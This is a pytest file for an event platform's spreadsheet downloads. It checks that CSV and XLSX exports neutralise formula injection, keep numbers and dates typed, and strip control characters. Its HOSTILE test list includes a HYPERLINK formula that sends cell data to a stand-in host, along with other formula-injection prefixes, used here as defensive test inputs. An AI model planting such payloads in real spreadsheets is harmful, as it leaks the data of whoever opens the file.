"""The platform's spreadsheet downloads (eventsaas/spreadsheets.py): neutralised, typed, streamed."""

import datetime as dt
import zoneinfo
from decimal import Decimal

import pytest
import tablib
from django.http import Http404

from eventsaas.spreadsheets import (
    FileFormat,
    Sheet,
    dataset_response,
    export_filename,
    file_format_or_404,
    local_datetime,
    neutralise,
    spreadsheet_response,
    strip_neutralising_quote,
)
from tests.support.spreadsheets import csv_rows, xlsx_rows, xlsx_sheet

# Spreadsheets have no time zones: a cell holds the wall-clock time (the zone is in the header).
SIX_THIRTY_PM = dt.datetime(2026, 6, 1, 18, 30)  # noqa: DTZ001

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-1", "@SUM(A1:A9)", "\tcmd", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_is_prefixed_with_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", [*HOSTILE, "Anna", "'quoted", "+41 79 123 45 67"])
def test_an_export_read_back_gets_the_original_text(text):
    assert strip_neutralising_quote(neutralise(text)) == text


@pytest.mark.parametrize("value", ["Anna", "O'Brien", "a=b", "", " =1", -1, Decimal("-2.50"), None])
def test_harmless_text_and_real_numbers_are_unchanged(value):
    assert neutralise(value) == value


def _sheet():
    return Sheet(
        title="Guests: A/B",
        headers=["Name", "Amount", "When", "=header"],
        rows=iter(
            [
                [HOSTILE[0], Decimal("25.00"), SIX_THIRTY_PM, "+1"],
                ["Zoë Ñúñez", Decimal("2500"), None, "@SUM(A1)"],
                ["-1", 7, None, ""],
            ]
        ),
    )


def test_csv_download_is_utf8_with_a_bom_neutralised_and_not_cached():
    response = spreadsheet_response(_sheet(), file_format=FileFormat.CSV, filename="party-guests-2026-12-01.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="party-guests-2026-12-01.csv"'
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    assert csv_rows(response) == [
        ["Name", "Amount", "When", "'=header"],
        ["'" + HOSTILE[0], "25.00", "2026-06-01 18:30", "'+1"],
        ["Zoë Ñúñez", "2500", "", "'@SUM(A1)"],
        ["'-1", "7", "", ""],
    ]


def test_xlsx_download_keeps_numbers_and_dates_and_holds_no_formula():
    response = spreadsheet_response(_sheet(), file_format=FileFormat.XLSX, filename="party-guests-2026-12-01.xlsx")

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="party-guests-2026-12-01.xlsx"'
    assert "no-store" in response["Cache-Control"]
    sheet = xlsx_sheet(response)
    assert sheet.title == "Guests- A-B"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert xlsx_rows(response) == [
        ["Name", "Amount", "When", "'=header"],
        ["'" + HOSTILE[0], 25, SIX_THIRTY_PM, "'+1"],
        ["Zoë Ñúñez", 2500, None, "'@SUM(A1)"],
        ["'-1", 7, None, None],
    ]
    assert sheet["B2"].number_format == "0.00" and sheet["B3"].number_format == "0"
    assert sheet["C2"].number_format == "yyyy-mm-dd hh:mm"


def test_control_characters_people_typed_do_not_break_the_xlsx_download():
    """openpyxl refuses a whole workbook for one C0 control character in a cell (a 500 for the organizer)."""
    sheet = Sheet(
        title="Guests", headers=["Name\x0b", "Dietary"], rows=[["Mallory\x0bCtl", "nuts\x0b\x1bpeanuts\ttabs ok"]]
    )

    xlsx = spreadsheet_response(sheet, file_format=FileFormat.XLSX, filename="guests.xlsx")
    csv = spreadsheet_response(sheet, file_format=FileFormat.CSV, filename="guests.csv")

    assert xlsx_rows(xlsx) == [["Name", "Dietary"], ["MalloryCtl", "nutspeanuts\ttabs ok"]]
    assert csv_rows(csv)[1] == ["Mallory\x0bCtl", "nuts\x0b\x1bpeanuts\ttabs ok"]  # as typed


def test_a_tablib_dataset_is_neutralised_too():
    dataset = tablib.Dataset(["Bad row", "=1+1"], headers=["Row", "Error"], title="Errors")

    response = dataset_response(dataset, file_format=FileFormat.CSV, filename="errors.csv")

    assert csv_rows(response) == [["Row", "Error"], ["Bad row", "'=1+1"]]


def test_local_datetime_is_the_wall_clock_time_in_the_zone():
    madrid = zoneinfo.ZoneInfo("Europe/Madrid")

    assert local_datetime(dt.datetime(2026, 6, 1, 16, 30, tzinfo=dt.UTC), madrid) == SIX_THIRTY_PM
    assert local_datetime(None, madrid) is None


def test_filename_names_the_day_in_the_event_zone(monkeypatch):
    monkeypatch.setattr("django.utils.timezone.now", lambda: dt.datetime(2026, 12, 1, 23, 30, tzinfo=dt.UTC))

    tokyo = export_filename(
        stem="party", what="guests", file_format=FileFormat.XLSX, tz=zoneinfo.ZoneInfo("Asia/Tokyo")
    )

    assert tokyo == "party-guests-2026-12-02.xlsx"


def test_an_unknown_format_is_a_404():
    assert file_format_or_404("xlsx") is FileFormat.XLSX
    with pytest.raises(Http404):
        file_format_or_404("xls")
